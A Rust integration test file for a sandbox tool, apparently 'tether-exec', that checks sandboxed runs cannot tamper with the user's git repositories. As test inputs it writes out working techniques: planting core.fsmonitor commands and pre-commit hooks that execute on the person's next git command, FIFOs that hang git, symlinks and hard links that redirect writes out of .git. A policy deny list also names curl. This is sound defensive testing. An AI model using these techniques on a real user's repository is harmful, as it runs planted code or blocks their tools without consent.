        let deadline = Instant::now() + Duration::from_secs(60);
        while Instant::now() < deadline {
            if let Some(status) = child.try_wait().unwrap() {
                let mut err = String::new();
                child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
                return (status.code(), err);
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let _ = child.kill();
        let _ = child.wait();
        panic!("tether-exec {args:?} hangs");
    };
    // A run can no longer make `.git/config` (the create guard refuses it),
    // so that FIFO is planted from outside, as another tool could leave it.
    host_git(&w, &["init", "-q"]);
    host_git(&w, &["add", "a"]);
    std::fs::remove_file(w.ws.join(".git/config")).unwrap();
    nix::unistd::mkfifo(
        &w.ws.join(".git/config"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();
    let (code, err) = bounded(&[
        "run",
        "-c",
        "mkdir -p .venv && mkfifo .venv/pyvenv.cfg && python3 -c \"open('.env', 'w').write('X=1')\"",
    ]);
    assert_eq!(code, Some(77), "{err}");
    assert!(!exists(&w.ws.join(".env")), "{err}");
    let (code, err) = bounded(&["run", "--", "/bin/true"]);
    assert_eq!(code, Some(0), "{err}");
    // Control: the same open outside the sandbox blocks.
    let c = Command::new("timeout")
        .args(["2", "cat", ".venv/pyvenv.cfg"])
        .current_dir(&w.ws)
        .output()
        .unwrap();
    assert_eq!(c.status.code(), Some(124), "control: {}", text(&c));
}

#[test]
fn a_policy_file_in_the_workspace_cannot_be_replaced_by_renaming_its_directory() {
    let w = World::new();
    let policy = "version = 1\nnetwork = false\ndeny = [\"curl\"]\ndefault = \"allow\"\n";
    w.write("conf/policy.toml", policy);
    let script = "python3 -c \"import os; os.rename('conf', 'conf.old'); os.mkdir('conf'); \
                  open('conf/policy.toml', 'w').write('network = true')\"";
    let o = w.tx(&["run", "--policy", "conf/policy.toml", "-c", script]);
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(std::fs::read_to_string(w.ws.join("conf/policy.toml")).unwrap(), policy);
    assert!(!exists(&w.ws.join("conf.old")), "{}", text(&o));
    // Control: without the sandbox the rename goes through.
    let c = w.control(script);
    assert_eq!(
        std::fs::read_to_string(w.ws.join("conf/policy.toml")).unwrap(),
        "network = true",
        "control: {}",
        text(&c)
    );
}

#[test]
fn protected_globs_of_the_policy_hold_in_the_default_mode_too() {
    let w = World::new();
    w.write("keep/file", "orig");
    let p = w.policy("version = 1\nprotected = [\"keep/**\"]\n");
    let script = "python3 -c \"open('keep/file', 'w').write('changed'); open('keep/new', 'w').write('n')\"; echo WROTE";
    let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", script]);
    assert!(stdout(&o).contains("WROTE"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert_eq!(std::fs::read_to_string(w.ws.join("keep/file")).unwrap(), "orig");
    assert!(!exists(&w.ws.join("keep/new")), "{}", text(&o));
    // Control: without the sandbox both writes land.
    let c = w.control(script);
    assert_eq!(
        std::fs::read_to_string(w.ws.join("keep/file")).unwrap(),
        "changed",
        "{}",
        text(&c)
    );
}

/// A repository with one commit; its id.
fn committed_repository(w: &World) -> String {
    host_git(w, &["init", "-q"]);
    w.write("a", "a\n");
    host_git(w, &["add", "a"]);
    host_git(w, &["commit", "-qm", "init"]);
    host_git(w, &["rev-parse", "HEAD"]).trim().to_string()
}

/// Whether `a` and `b` in the workspace are names of one file.
fn same_file(w: &World, a: &str, b: &str) -> bool {
    use std::os::unix::fs::MetadataExt;
    match (std::fs::metadata(w.ws.join(a)), std::fs::metadata(w.ws.join(b))) {
        (Ok(x), Ok(y)) => (x.dev(), x.ino()) == (y.dev(), y.ino()),
        _ => false,
    }
}

/// A write of one byte in place, 100 bytes into `file` (no new file, no
/// rename): what a run can do to any file it has a writable name for.
const WRITE_IN_PLACE: &str =
    "python3 -c \"import os, sys; fd = os.open(sys.argv[1], os.O_RDWR); os.pwrite(fd, b'X', 100)\"";

/// A script that writes an executable `pre-commit` in `dir` that touches
/// `hook-ran` outside the workspace, and prints `said`.
fn plant_hook(w: &World, dir: &str, said: &str) -> String {
    format!(
        "mkdir -p {dir} && printf '#!/bin/sh\\ntouch {}\\n' > {dir}/pre-commit && chmod +x {dir}/pre-commit && echo {said}",
        w.outside.join("hook-ran").display()
    )
}

/// The person's own `git commit` in `tree`, whatever it says.
fn persons_commit_in(tree: &Path) {
    let _ = Command::new("git")
        .args([
            "-c",
            "user.email=t@t",
            "-c",
            "user.name=t",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "person",
        ])
        .current_dir(tree)
        .output();
}

/// `core.hooksPath` naming a folder of the workspace (`.githooks`, husky's
/// `.husky/_`): git runs what is there on the person's commit as it runs
/// `.git/hooks`, so a run may neither write a hook there nor make the
/// folder where it does not exist yet. Bound and captured alike.
#[test]
fn hooks_a_configuration_names_in_the_workspace_are_protected() {
    let hook = |w: &World, dir: &str| plant_hook(w, dir, "PLANTED");
    let commit = |w: &World| persons_commit_in(&w.ws);
    for (dir, exists_before) in [(".githooks", true), (".husky/_", false)] {
        for policy in ["", "overlay = true\non_violation = \"drop\"\n"] {
            let w = World::new();
            committed_repository(&w);
            host_git(&w, &["config", "core.hooksPath", dir]);
            if exists_before {
                w.write(&format!("{dir}/README"), "hooks\n");
            }
            let o = w.run_policy(policy, &hook(&w, dir));
            if policy.is_empty() {
                // Bound: refused as it is written (EROFS, or the guard's EPERM).
                assert!(!stdout(&o).contains("PLANTED"), "{dir}: {}", text(&o));
                assert_ne!(o.status.code(), Some(0), "{dir}: {}", text(&o));
            } else {
                // Captured: read-only where it exists, refused at landing where it does not.
                let said = text(&o);
                assert!(
                    said.contains("core.hooksPath") || said.contains("Read-only file system"),
                    "{dir} {policy}: {said}"
                );
            }
            assert!(
                !exists(&w.ws.join(dir).join("pre-commit")),
                "{dir} {policy}: {}",
                text(&o)
            );
            commit(&w);
            assert!(
                !exists(&w.outside.join("hook-ran")),
                "{dir} {policy}: the person's commit ran the run's hook"
            );
        }
    }
    // Control: without the sandbox, the person's next commit runs it.
    let w = World::new();
    committed_repository(&w);
    host_git(&w, &["config", "core.hooksPath", ".githooks"]);
    let c = w.control(&hook(&w, ".githooks"));
    assert!(stdout(&c).contains("PLANTED"), "control: {}", text(&c));
    commit(&w);
    assert!(exists(&w.outside.join("hook-ran")), "control: the hook ran");
}

/// A relative `core.hooksPath` is taken from the top of each work tree:
/// a submodule's (its git directory under `.git/modules`) and a linked
/// worktree's (under `.git/worktrees`) are protected as the top's is.
#[test]
fn relative_hooks_of_submodules_and_linked_worktrees_are_protected() {
    let setup = || {
        let w = World::new();
        committed_repository(&w);
        let src = w.outside.join("src");
        std::fs::create_dir(&src).unwrap();
        for args in [
            &["init", "-q"][..],
            &[
                "-c",
                "user.email=t@t",
                "-c",
                "user.name=t",
                "commit",
                "-q",
                "--allow-empty",
                "-m",
                "s",
            ],
        ] {
            assert!(Command::new("git")
                .args(args)
                .current_dir(&src)
                .status()
                .unwrap()
                .success());
        }
        host_git(
            &w,
            &[
                "-c",
                "protocol.file.allow=always",
                "submodule",
                "add",
                "-q",
                src.to_str().unwrap(),
                "sub",
            ],
        );
        host_git(&w, &["-C", "sub", "config", "core.hooksPath", ".githooks"]);
        host_git(&w, &["commit", "-qm", "submodule"]);
        host_git(&w, &["worktree", "add", "-q", "wt"]);
        host_git(&w, &["config", "core.hooksPath", ".husky/_"]);
        w
    };
    let plant = |w: &World| {
        format!(
            "{}; {}; true",
            plant_hook(w, "sub/.githooks", "PLANTED-sub/.githooks"),
            plant_hook(w, "wt/.husky/_", "PLANTED-wt/.husky/_")
        )
    };
    let commits = |w: &World| {
        for tree in ["sub", "wt"] {
            persons_commit_in(&w.ws.join(tree));
        }
    };
    let w = setup();
    let o = w.run(&plant(&w));
    assert!(!stdout(&o).contains("PLANTED"), "{}", text(&o));
    assert!(
        text(&o).contains("Read-only file system") || text(&o).contains("core.hooksPath"),
        "{}",
        text(&o)
    );
    commits(&w);
    assert!(
        !exists(&w.outside.join("hook-ran")),
        "the person's commit ran the run's hook: {}",
        text(&o)
    );
    // Control: without the sandbox, both hooks run on the person's commits.
    let w = setup();
    let c = w.control(&plant(&w));
    assert!(
        stdout(&c).contains("PLANTED-sub/.githooks") && stdout(&c).contains("PLANTED-wt/.husky/_"),
        "control: {}",
        text(&c)
    );
    commits(&w);
    assert!(exists(&w.outside.join("hook-ran")), "control: the hooks ran");
}

/// Two runs in one workspace: run A makes a repository below and lands its
/// gitlink in the index while run B lasts. B's plan could not know that
/// repository, yet the host's `git status` at the top now recurses into it:
/// B may not give it a `config` (nor hooks), which would be live on the host
/// while B runs. A git directory is a run's own to configure only if that
/// run made it.
#[test]
fn a_repository_another_run_made_meanwhile_is_not_this_runs_to_configure() {
    let w = World::new();
    committed_repository(&w);
    let marker = w.outside.join("fsmonitor-ran");
    let plant = format!(
        "printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' > sub/.git/config",
        marker.display()
    );
    let b_script = format!(
        ": > b-started; while [ ! -e sub/.git/DONE ]; do sleep 0.02; done; {plant} && echo WROTE; \
         git init -q own && git -C own config core.fsmonitor 'touch {m}; false' && mv sub/.git sub/old && \
         mv own/.git sub/.git && echo SWAPPED; : > tried; while [ ! -e go ]; do sleep 0.02; done",
        m = marker.display()
    );
    let b = w
        .command(&["run", "-c", &b_script])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    assert!(wait_for(&w.ws.join("b-started")), "run B started");
    let a = w.run(
        "mkdir sub && git -C sub init -q && git -C sub -c user.email=a@b -c user.name=a commit -q --allow-empty -m s && \
         rm -rf sub/.git/config sub/.git/hooks && git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub && \
         : > sub/.git/DONE",
    );
    assert_eq!(a.status.code(), Some(0), "run A: {}", text(&a));
    assert!(wait_for(&w.ws.join("tried")), "run B tried");
    // While B lasts: nothing of its making in that repository, and the
    // host's git obeys nothing.
    assert!(!exists(&w.ws.join("sub/.git/config")));
    host_git_status(&w);
    assert!(!exists(&marker), "the host's git ran what run B planted");
    std::fs::write(w.ws.join("go"), "").unwrap();
    let b = b.wait_with_output().unwrap();
    assert!(!stdout(&b).contains("WROTE"), "{}", text(&b));
    assert!(!stdout(&b).contains("SWAPPED"), "{}", text(&b));
    assert_eq!(b.status.code(), Some(77), "{}", text(&b));
    assert!(
        text(&b).contains("a git directory this run did not make"),
        "{}",
        text(&b)
    );
    // Control: the same `config` written on the host is obeyed at once.
    if exists(&w.ws.join("sub/old")) && !exists(&w.ws.join("sub/.git")) {
        std::fs::rename(w.ws.join("sub/old"), w.ws.join("sub/.git")).unwrap();
    }
    let c = w.control(&plant);
    assert!(c.status.success(), "control: {}", text(&c));
    host_git_status(&w);
    assert!(exists(&marker), "control: the host's git obeys the repository's config");
}

/// The exit status of the host's `git status` in the workspace, given 3
/// seconds: 124 when it hangs.
fn host_git_status_within_3s(w: &World) -> Option<i32> {
    Command::new("timeout")
        .args(["3", "git", "status", "--short"])
        .current_dir(&w.ws)
        .stdin(Stdio::null())
        .output()
        .unwrap()
        .status
        .code()
}

/// Runs `script` (which prints DONE) bound and captured: nothing of
/// `planted` is left in the workspace, the run says `why`, and the host's
/// `git status` answers. Control: `control` run without the sandbox makes
/// that `git status` hang.
fn git_never_hangs_on_what_a_run_leaves(script: &str, why: &str, planted: &[&str], control: &str) {
    for policy in ["", "overlay = true\non_violation = \"drop\"\n"] {
        let w = World::new();
        committed_repository(&w);
        let o = w.run_policy(policy, script);
        assert!(stdout(&o).contains("DONE"), "{policy}: {}", text(&o));
        assert!(text(&o).contains(why), "{policy}: {}", text(&o));
        for name in planted {
            assert!(!exists(&w.ws.join(name)), "{policy}: {name}: {}", text(&o));
        }
        assert_eq!(
            host_git_status_within_3s(&w),
            Some(0),
            "{policy}: the person's git answers"
        );
    }
    let w = World::new();
    committed_repository(&w);
    let c = w.control(control);
    assert!(stdout(&c).contains("DONE"), "control: {}", text(&c));
    assert_eq!(host_git_status_within_3s(&w), Some(124), "control: git hangs");
}

/// A FIFO named `.gitignore`, `.gitattributes`, `.mailmap` or `.gitmodules`
/// hangs the person's next `git status` (an editor runs one every few
/// seconds) until something writes to it: none is made, whether by `mkfifo`,
/// a rename or a link, and none lands from a capture.
#[test]
fn a_fifo_git_reads_in_the_work_tree_is_never_made() {
    git_never_hangs_on_what_a_run_leaves(
        "mkdir -p d && mkfifo .gitignore; mkfifo x && mv x .mailmap; mkfifo y && ln y d/.gitattributes; \
         mkfifo z && python3 -c 'import os; os.rename(\"z\", \"d/.gitmodules\")'; \
         mkdir -p e/.git/objects e/.git/refs && mkfifo e/.git/HEAD; mkdir -p f && mkfifo f/.git; echo DONE",
        "a FIFO where git reads",
        &[
            ".gitignore",
            ".mailmap",
            "d/.gitattributes",
            "d/.gitmodules",
            "e/.git/HEAD",
            "f/.git",
        ],
        "mkfifo .gitignore && echo DONE",
    );
}

/// The person's global `core.excludesFile` and `core.attributesFile` (and
/// git's default `~/.config/git/ignore`), kept in the workspace (a dotfiles
/// checkout): every git command of the person's reads them, so a FIFO put
/// in their place would hang them all. They are kept like included files.
#[test]
fn the_persons_global_ignore_and_attributes_files_in_the_workspace_are_kept() {
    let w = World::new();
    committed_repository(&w);
    let global = w.outside.join("global.gitconfig");
    std::fs::write(
        &global,
        format!(
            "[core]\n\texcludesFile = {}\n\tattributesFile = {}\n",
            w.ws.join("ignore_global").display(),
            w.ws.join("attributes_global").display()
        ),
    )
    .unwrap();
    w.write("ignore_global", "*.tmp\n");
    // And one a repository's own configuration names relatively: git
    // takes it from the top of the work tree.
    host_git(&w, &["config", "core.excludesFile", "myexcl"]);
    w.write("myexcl", "*.o\n");
    let script =
        "rm -f ignore_global; mkfifo ignore_global; mkfifo attributes_global; rm -f myexcl; mkfifo myexcl; echo DONE";
    let git_status = |w: &World| {
        Command::new("timeout")
            .args(["3", "git", "status", "--short"])
            .env("GIT_CONFIG_GLOBAL", &global)
            .current_dir(&w.ws)
            .stdin(Stdio::null())
            .output()
            .unwrap()
            .status
            .code()
    };
    let o = w
        .command(&["run", "-c", script])
        .env("GIT_CONFIG_GLOBAL", &global)
        .output()
        .unwrap();
    assert!(stdout(&o).contains("DONE"), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("ignore_global")).unwrap(),
        "*.tmp\n",
        "{}",
        text(&o)
    );
    assert!(!exists(&w.ws.join("attributes_global")), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(w.ws.join("myexcl")).unwrap(),
        "*.o\n",
        "{}",
        text(&o)
    );
    assert_eq!(git_status(&w), Some(0), "the person's git answers");
    // Control: without the sandbox, git hangs on the FIFO.
    let c = w.control(script);
    assert!(stdout(&c).contains("DONE"), "control: {}", text(&c));
    assert_eq!(git_status(&w), Some(124), "control: git hangs");
}

/// `.git/objects/info/alternates` names object stores git reads, wherever
/// they are: one naming a folder whose own `info/alternates` is a FIFO
/// hangs every git command of the person's. What a run writes there never
/// lands.
#[test]
fn alternates_a_run_writes_never_land() {
    let script = "mkdir -p evil/info && mkfifo evil/info/alternates && echo \"$PWD/evil\" > .git/objects/info/alternates && echo DONE";
    git_never_hangs_on_what_a_run_leaves(
        script,
        "the object stores a repository borrows from",
        &[".git/objects/info/alternates"],
        script,
    );
}

/// Where the whole workspace is captured (`overlay = true`, a preview), a
/// run that makes `HEAD` (and `objects`, `refs`, `config`) at the top and
/// removes `.git/HEAD` would have the person's git take the workspace for a
/// bare repository and obey the run's `config` (its pager, its ssh command):
/// neither lands. The create guard refuses the same to a bound workspace.
#[test]
fn a_capture_never_turns_the_workspace_into_a_git_directory() {
    let script = "cp -r .git/objects .git/refs . && cp .git/HEAD HEAD && rm .git/HEAD && \
                  printf '[core]\\n\\tpager = touch MARK; cat\\n' > config && echo PLANTED";
    let git_dir = |w: &World| host_git(w, &["rev-parse", "--git-dir"]).trim().to_string();
    for policy in ["overlay = true\n", "overlay = true\non_violation = \"drop\"\n"] {
        let w = World::new();
        committed_repository(&w);
        let o = w.run_policy(policy, script);
        assert!(stdout(&o).contains("PLANTED"), "{policy}: {}", text(&o));
        assert_eq!(
            o.status.code(),
            Some(if policy.contains("drop") { 0 } else { 77 }),
            "{policy}: {}",
            text(&o)
        );
        assert!(
            text(&o).contains("makes git take the folder for a git directory"),
            "{policy}: {}",
            text(&o)
        );
        assert!(
            text(&o).contains("a git directory without its `HEAD`"),
            "{policy}: {}",
            text(&o)
        );
        assert!(!exists(&w.ws.join("HEAD")), "{policy}");
        assert!(exists(&w.ws.join(".git/HEAD")), "{policy}");
        assert_eq!(git_dir(&w), ".git", "{policy}");
    }
    // A bound workspace: its `.git` is an overlay of its own, whose `HEAD`
    // stays.
    let w = World::new();
    committed_repository(&w);
    let o = w.run("rm .git/HEAD && echo PLANTED");
    assert!(stdout(&o).contains("PLANTED"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(exists(&w.ws.join(".git/HEAD")), "{}", text(&o));
    assert_eq!(git_dir(&w), ".git");
    // An approved preview lands the same judgement.
    let w = World::new();
    committed_repository(&w);
    let p = w.policy("require_approval_for = [\"cp\"]\ndefault = \"allow\"\n");
    let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", script]);
    assert_eq!(o.status.code(), Some(75), "{}", text(&o));
    let id = held_id(&String::from_utf8_lossy(&o.stderr));
    assert!(w.tx(&["approve", &id]).status.success());
    let r = w.tx(&["resume", &id]);
    assert!(!exists(&w.ws.join("HEAD")), "{}", text(&r));
    assert!(exists(&w.ws.join(".git/HEAD")), "{}", text(&r));
    assert_eq!(git_dir(&w), ".git", "{}", text(&r));
    // Control: without the sandbox the workspace becomes the repository.
    let w = World::new();
    committed_repository(&w);
    let c = w.control(script);
    assert!(stdout(&c).contains("PLANTED"), "control: {}", text(&c));
    assert_eq!(
        git_dir(&w),
        ".",
        "control: git takes the workspace for the git directory"
    );
}

/// A committed repository, and outside it the host file a planted link
/// points at (holding `HOST DATA`), the reflog a planted link names (not
/// there yet) and a directory a planted link names.
fn repository_and_targets() -> (World, PathBuf, PathBuf, PathBuf) {
    let w = World::new();
    committed_repository(&w);
    let (victim, reflog, refs) = (
        w.outside.join("victim"),
        w.outside.join("reflog"),
        w.outside.join("refs-elsewhere"),
    );
    std::fs::write(&victim, "HOST DATA\n").unwrap();
    std::fs::create_dir(&refs).unwrap();
    (w, victim, reflog, refs)
}

/// A symlink a run makes in a git directory (a reflog, `COMMIT_EDITMSG`,
/// a directory replaced by one) never lands: git follows it where it
/// appends or writes in place, so the person's next `git commit` would
/// write wherever the run pointed it, outside the workspace. Nor does a
/// FIFO (`FETCH_HEAD`: the person's next `git fetch` would hang on it).
/// The rest of the run (a commit made in it) lands; the repository's own
/// files stay.
#[test]
fn a_symlink_made_in_a_git_directory_never_lands() {
    let plant = |w: &World| {
        format!(
            "git -c user.email=a@b -c user.name=a commit -q --allow-empty -m inside && \
             rm -f .git/COMMIT_EDITMSG .git/logs/HEAD && ln -s {v} .git/COMMIT_EDITMSG && \
             ln -s {r} .git/logs/HEAD && rm -rf .git/logs/refs && ln -s {d} .git/logs/refs && echo PLANTED; mkfifo .git/FETCH_HEAD",
            v = w.outside.join("victim").display(),
            r = w.outside.join("reflog").display(),
            d = w.outside.join("refs-elsewhere").display(),
        )
    };
    // (policy, exit, whether the run's commit lands): bind mode, where
    // `.git` is an overlay of its own; the overlay workspace, which rolls
    // everything back on a violation, or drops only the violations.
    for (policy, code, commit_lands) in [
        ("", 77, true),
        ("overlay = true\n", 77, false),
        ("overlay = true\non_violation = \"drop\"\n", 0, true),
    ] {
        let (w, victim, reflog, refs) = repository_and_targets();
        let o = w.run_policy(policy, &plant(&w));
        assert!(stdout(&o).contains("PLANTED"), "{policy}: {}", text(&o));
        assert_eq!(o.status.code(), Some(code), "{policy}: {}", text(&o));
        assert!(
            text(&o).contains("a symlink, through which git would write outside"),
            "{policy}: {}",
            text(&o)
        );
        // Refused as it is made (the guard, bound), or as it would land.
        assert!(
            text(&o).contains("a FIFO or device") || text(&o).contains("a FIFO where git reads"),
            "{policy}: {}",
            text(&o)
        );
        assert!(!exists(&w.ws.join(".git/FETCH_HEAD")), "{policy}: the FIFO landed");
        for p in [".git/COMMIT_EDITMSG", ".git/logs/HEAD", ".git/logs/refs"] {
            let m = std::fs::symlink_metadata(w.ws.join(p));
            assert!(
                !m.is_ok_and(|m| m.file_type().is_symlink()),
                "{policy}: {p} landed as a symlink"
            );
        }
        assert_eq!(
            host_git(&w, &["log", "--format=%s"]).contains("inside"),
            commit_lands,
            "{policy}: the run's commit: {}",
            text(&o)
        );
        // The person's next commit writes the repository's files only.
        host_git(&w, &["commit", "-q", "--allow-empty", "-m", "the person's"]);
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "HOST DATA\n", "{policy}");
        assert!(!exists(&reflog), "{policy}: git wrote the run's reflog target");
        assert!(
            !exists(&refs.join("heads")),
            "{policy}: git wrote through the run's directory link"
        );
    }
    // Control: without the sandbox the links are git's, and the person's
    // commit writes through them.
    let (w, victim, reflog, refs) = repository_and_targets();
    let c = w.control(&plant(&w));
    assert!(stdout(&c).contains("PLANTED"), "control: {}", text(&c));
    host_git(&w, &["commit", "-q", "--allow-empty", "-m", "the person's"]);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "the person's\n", "control");
    assert!(exists(&reflog), "control: git appended to the reflog target");
    assert!(
        exists(&refs.join("heads")),
        "control: git wrote through the directory link"
    );
    use std::os::unix::fs::FileTypeExt;
    let fifo = std::fs::symlink_metadata(w.ws.join(".git/FETCH_HEAD")).unwrap();
    assert!(fifo.file_type().is_fifo(), "control: the FIFO is git's FETCH_HEAD");
}

#[test]
fn a_file_of_the_git_directory_never_lands_with_a_second_name() {
    // A run on the overlay workspace (or a preview) links `.git/index` to
    // a name outside `.git`. Landed as a hard link, that name lets every
    // later run write the real index in place: past `.git`'s overlay and
    // the check of a run's index before it lands, and through a shared
    // mapping without moving its change time, which the gitlinks kept
    // between runs trust.
    let w = World::new();
    committed_repository(&w);
    let index_before = std::fs::read(w.ws.join(".git/index")).unwrap();
    let script = "ln .git/index idx && echo LINKED";
    let o = w.run_policy("overlay = true\n", script);
    assert!(stdout(&o).contains("LINKED"), "{}", text(&o));
    assert!(!same_file(&w, ".git/index", "idx"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(77), "{}", text(&o));
    assert!(text(&o).contains("another hard link"), "{}", text(&o));
    // A held action's preview, approved and landed: the same judgement.
    let p = w.policy("require_approval_for = [\"ln\"]\ndefault = \"allow\"\n");
    let script2 = "ln .git/index idx2 && echo LINKED";
    let o = w.tx(&["run", "--policy", p.to_str().unwrap(), "-c", script2]);
    assert_eq!(o.status.code(), Some(75), "{}", text(&o));
    let id = held_id(&String::from_utf8_lossy(&o.stderr));
    let a = w.tx(&["approve", &id]);
    assert!(a.status.success(), "{}", text(&a));
    let r = w.tx(&["resume", &id]);
    assert!(!same_file(&w, ".git/index", "idx2"), "{}", text(&r));
    assert_eq!(r.status.code(), Some(77), "{}", text(&r));
    // What a later run writes through those names is not the index.
    for name in ["idx", "idx2"] {
        // (Whether the rest of the capture landed depends on the policy.)
        let o = w.run(&format!("[ ! -e {name} ] || {WRITE_IN_PLACE} {name}; echo DONE"));
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(stdout(&o).contains("DONE"), "{}", text(&o));
    }
    assert_eq!(std::fs::read(w.ws.join(".git/index")).unwrap(), index_before);
    let o = w.run("touch still-writable");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // Control: without the sandbox the link is made and writes through it
    // change the index in place.
    let c = w.control(&format!("ln -f .git/index idx && {WRITE_IN_PLACE} idx"));
    assert!(c.status.success(), "control: {}", text(&c));
    assert!(same_file(&w, ".git/index", "idx"), "control: {}", text(&c));
    assert_ne!(std::fs::read(w.ws.join(".git/index")).unwrap(), index_before, "control");
}

#[test]
fn a_repository_the_run_makes_never_lands_a_control_file_with_a_second_name() {
    // A repository a run makes is the person's in the next run, its config
    // read-only there; landed with a second name, that name would let the
    // next run write it in place (and plant `core.fsmonitor`).
    let w = World::new();
    committed_repository(&w);
    let script = "git init -q sub && ln sub/.git/config cfg && ln sub/.git/HEAD head && echo LINKED";
    let o = w.run_policy("overlay = true\non_violation = \"drop\"\n", script);
    assert!(stdout(&o).contains("LINKED"), "{}", text(&o));
    assert!(!same_file(&w, "sub/.git/config", "cfg"), "{}", text(&o));
    assert!(!same_file(&w, "sub/.git/HEAD", "head"), "{}", text(&o));
    assert!(exists(&w.ws.join("sub/.git/objects")), "the rest landed: {}", text(&o));
    assert!(text(&o).contains("another hard link"), "{}", text(&o));
    let marker = w.outside.join("fsmonitor-ran");
    let plant = |cfg: &str| {
        format!(
            "[ ! -e {cfg} ] || printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' >> {cfg}; echo DONE",
            marker.display()
        )
    };
    let o = w.run(&plant("cfg"));
    assert!(stdout(&o).contains("DONE"), "{}", text(&o));
    if exists(&w.ws.join("sub/.git/HEAD")) {
        host_git(&w, &["-C", "sub", "status"]);
    }
    assert!(
        !exists(&marker),
        "the host's git ran what the run planted: {}",
        text(&o)
    );
    // Control: without the sandbox, the link and the planted line are git's.
    let c = w.control(&format!(
        "git init -q ctl && ln ctl/.git/config ctlcfg && {}",
        plant("ctlcfg")
    ));
    assert!(c.status.success(), "control: {}", text(&c));
    host_git(&w, &["-C", "ctl", "status"]);
    assert!(exists(&marker), "control: {}", text(&c));
}

#[test]
fn a_control_file_with_another_hard_link_refuses_writable_runs() {
    // A read-only mount covers one name: through the other, a run would
    // write the config (or a hook) git obeys.
    let w = World::new();
    committed_repository(&w);
    let marker = w.outside.join("fsmonitor-ran");
    let plant = format!(
        "printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' >> cfg && echo PLANTED",
        marker.display()
    );
    for control in [".git/config", ".git/hooks/pre-commit"] {
        let target = w.ws.join(control);
        if !exists(&target) {
            std::fs::write(&target, "#!/bin/sh\n").unwrap();
        }
        std::fs::hard_link(&target, w.ws.join("cfg")).unwrap();
        let before = std::fs::read(&target).unwrap();
        let o = w.run(&plant);
        assert_eq!(std::fs::read(&target).unwrap(), before, "{control}: {}", text(&o));
        assert!(!stdout(&o).contains("PLANTED"), "{}", text(&o));
        assert_eq!(o.status.code(), Some(125), "{}", text(&o));
        assert!(text(&o).contains("other hard links"), "{}", text(&o));
        assert!(text(&o).contains(control), "names the file: {}", text(&o));
        std::fs::remove_file(w.ws.join("cfg")).unwrap();
    }
    assert!(w.run("touch ran").status.success(), "a name of its own again");
    // Control: without the sandbox the write through the link is git's.
    std::fs::hard_link(w.ws.join(".git/config"), w.ws.join("cfg")).unwrap();
    let c = w.control(&plant);
    assert!(c.status.success(), "control: {}", text(&c));
    host_git(&w, &["status"]);
    assert!(exists(&marker), "control: {}", text(&c));
}

#[test]
fn an_index_with_another_hard_link_refuses_writable_runs() {
    // Through another name in the workspace a run would write the index in
    // place (or map it and change it after a later run read it, its times
    // unmoved): tether-exec cannot vouch for what it names.
    let w = World::new();
    committed_repository(&w);
    std::fs::hard_link(w.ws.join(".git/index"), w.ws.join("idx")).unwrap();
    let index_before = std::fs::read(w.ws.join(".git/index")).unwrap();
    let o = w.run(&format!("{WRITE_IN_PLACE} idx && echo WROTE"));
    assert_eq!(std::fs::read(w.ws.join(".git/index")).unwrap(), index_before);
    assert!(!stdout(&o).contains("WROTE"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains("other hard links"), "{}", text(&o));
    assert!(
        text(&o).contains(&format!("{}", w.ws.join(".git/index").display())),
        "names the index: {}",
        text(&o)
    );
    assert_eq!(std::fs::read(w.ws.join(".git/index")).unwrap(), index_before);
    // Read-only runs still run.
    let ro = w.policy("profile = \"read-only\"\n");
    let o = w.run_with(&["--policy", ro.to_str().unwrap()], "cat a");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // Given a name of its own, as the message says, writable runs run again.
    std::fs::copy(w.ws.join(".git/index"), w.ws.join(".git/index.new")).unwrap();
    std::fs::rename(w.ws.join(".git/index.new"), w.ws.join(".git/index")).unwrap();
    let o = w.run("touch ran");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // Control: without the sandbox the write through the link is the index's.
    std::fs::remove_file(w.ws.join("idx")).unwrap();
    std::fs::hard_link(w.ws.join(".git/index"), w.ws.join("idx")).unwrap();
    let c = w.control(&format!("{WRITE_IN_PLACE} idx"));
    assert!(c.status.success(), "control: {}", text(&c));
    assert_ne!(std::fs::read(w.ws.join(".git/index")).unwrap(), index_before, "control");
}

#[test]
fn an_index_that_cannot_be_checked_does_not_land() {
    // A split index keeps its entries in another file, which the check
    // after the run does not read: a gitlink in it (to a checkout whose
    // `.git` file points at a repository of the run's making) went unseen,
    // and the host's `git status` obeyed that repository's config.
    let w = World::new();
    let head = committed_repository(&w);
    let marker = w.outside.join("fsmonitor-ran");
    let script = format!(
        "{} && mkdir -p sub && printf 'gitdir: ../evil\\n' | tee sub/.git && \
         git update-index --split-index --add --cacheinfo 160000,{head},sub; echo PLANTED",
        evil_repository(&marker, "../sub")
    );
    host_git_obeys_nothing_planted(&w, &script, &marker, &["evil", "sub"], |o| {
        assert!(
            !host_git(&w, &["ls-files", "--stage"]).contains("160000"),
            "{}",
            text(o)
        );
    });
}

#[test]
fn gitlinks_of_a_nested_repository_are_checked_too() {
    // The workspace's index names `sub`, a repository the run makes, whose
    // own index names `inner`, whose `.git` file points at a repository of
    // the run's making: git recurses that far.
    let w = World::new();
    let head = committed_repository(&w);
